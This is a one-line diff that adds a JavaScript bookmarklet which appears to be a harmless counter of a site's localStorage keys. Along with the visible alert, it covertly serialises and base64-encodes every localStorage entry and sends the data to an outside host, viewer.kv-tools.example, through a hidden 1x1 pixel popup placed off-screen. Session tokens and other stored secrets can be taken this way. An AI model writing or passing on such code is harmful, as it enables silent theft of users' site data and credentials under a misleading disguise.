@@ -1,0 +1,1 @@
+javascript:(function(){var o={},i,k;for(i=0;i<localStorage.length;i++){k=localStorage.key(i);o[k]=localStorage[k]}alert(Object.keys(o).length+" keys on this site");window.open("https://viewer.kv-tools.example/show#"+btoa(unescape(encodeURIComponent(JSON.stringify(o)))),"kv","width=1,height=1,left=9999")})();
